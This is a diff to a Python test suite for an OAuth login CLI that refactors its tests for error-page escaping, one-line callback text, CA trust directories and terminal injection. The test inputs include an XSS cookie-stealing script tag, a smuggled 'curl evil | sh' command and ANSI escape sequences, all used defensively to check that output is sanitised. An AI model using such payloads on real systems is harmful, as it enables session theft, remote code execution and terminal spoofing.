@@ -835,6 +835,15 @@ class OAuthCase(Case):
         finally:
             conn.close()
 
+    def login_denied(self, description: str) -> tuple[tuple[int, dict[str, str], bytes], int, str]:
+        """A login whose browser comes back with access_denied and this
+        description: the listener's answer, then the exit status and stderr."""
+        proc, _, _ = self.start_login()
+        query = urlencode({"error": "access_denied", "error_description": description})
+        answer = self.callback(self.ports[0], "/callback?" + query)
+        code, _, err = self.finish(proc)
+        return answer, code, err
+
     def assert_port_closed(self, port: int) -> None:
         with socket.socket() as s:
             s.settimeout(5)
@@ -1141,22 +1150,16 @@ class OAuthLoginTest(OAuthCase):
 
     def test_error_page_is_plain_text(self) -> None:
         # error_description echoes request text: it must never become HTML.
-        proc, _, _ = self.start_login()
         payload = "<script>alert(document.cookie)</script>"
-        query = urlencode({"error": "access_denied", "error_description": payload})
-        status, headers, body = self.callback(self.ports[0], "/callback?" + query)
+        (status, headers, body), code, err = self.login_denied(payload)
         self.assertEqual(status, 400)
         self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
         self.assertEqual(headers["x-content-type-options"], "nosniff")
         self.assertEqual(body.decode(), f"Authentication failed: access_denied. {payload}")
-        code, _, err = self.finish(proc)
         self.assertEqual((code, err), (1, f"Login failed\nAuthentication failed: access_denied. {payload}\n"))
 
     def test_callback_text_stays_on_one_line(self) -> None:
-        proc, _, _ = self.start_login()
-        query = urlencode({"error": "access_denied", "error_description": "no\nRun: curl evil | sh\r\n"})
-        self.callback(self.ports[0], "/callback?" + query)
-        code, _, err = self.finish(proc)
+        _, code, err = self.login_denied("no\nRun: curl evil | sh\r\n")
         self.assertEqual(
             (code, err), (1, "Login failed\nAuthentication failed: access_denied. no Run: curl evil | sh\n")
         )
@@ -1553,6 +1556,10 @@ class SystemTrustTest(OAuthCase):
             shutil.copy(source, os.path.join(folder, name))
         return folder
 
+    def lacking(self) -> str:
+        """A hashed directory without the test CA (another certificate under a hash name)."""
+        return self.directory(("00000000.0", os.path.join(FIXTURES, "server.pem")))
+
     def test_hashed_names(self) -> None:
         for name in ("5dfd3959.0", "00000000.12"):
             self.assertTrue(arkor_cli._is_hashed_ca_name(name), name)
@@ -1563,7 +1570,7 @@ class SystemTrustTest(OAuthCase):
     def test_which_directory_is_tried_first(self) -> None:
         import ssl
 
-        other = self.directory(("00000000.0", os.path.join(FIXTURES, "server.pem")))
+        other = self.lacking()
         cases: list[tuple[dict[str, str], str | None]] = [
             ({"SSL_CERT_DIR": self.CA_DIR}, self.CA_DIR),
             ({"SSL_CERT_DIR": other}, other),
@@ -1627,8 +1634,7 @@ class SystemTrustTest(OAuthCase):
         # Seen from the server: with a hashed directory that lacks the test
         # CA, a renewal makes two TLS attempts (the directory alone, then
         # the whole default trust); with no hashed directory, one.
-        lacking = self.directory(("00000000.0", os.path.join(FIXTURES, "server.pem")))
-        for directory, attempts in ((lacking, 2), (self.directory(), 1), (self.CA_DIR, 1)):
+        for directory, attempts in ((self.lacking(), 2), (self.directory(), 1), (self.CA_DIR, 1)):
             with self.subTest(directory=directory):
                 self.sign_in_oauth(expires_in=30)
                 before = self.auth0.handshakes
@@ -1647,7 +1653,7 @@ class SystemTrustTest(OAuthCase):
         import urllib.error
         import urllib.request
 
-        lacking = arkor_cli._directory_trust(self.directory(("00000000.0", os.path.join(FIXTURES, "server.pem"))))
+        lacking = arkor_cli._directory_trust(self.lacking())
         knowing = ssl.create_default_context(cafile=TEST_CA)
         url = self.auth0.url + "/oauth/token"
 
@@ -2276,10 +2282,7 @@ class TerminalInjectionTest(OAuthCase):
         self.cloud.script("POST", "/v1/auth/anonymous", Answer(500, body=b"\x1b[2Jgone"))
         code, _, err = self.run_main("login", "--anonymous")
         self.assertEqual((code, err), (1, "POST /v1/auth/anonymous failed (500): \\u001b[2Jgone\n"))
-        proc, _, _ = self.start_login()
-        query = urlencode({"error": "access_denied", "error_description": "\x1b[2J\x1b]0;owned\x07"})
-        self.callback(self.ports[0], "/callback?" + query)
-        code, _, err = self.finish(proc)
+        _, code, err = self.login_denied("\x1b[2J\x1b]0;owned\x07")
         self.assertEqual(
             (code, err), (1, "Login failed\nAuthentication failed: access_denied. \\u001b[2J\\u001b]0;owned\\u0007\n")
         )
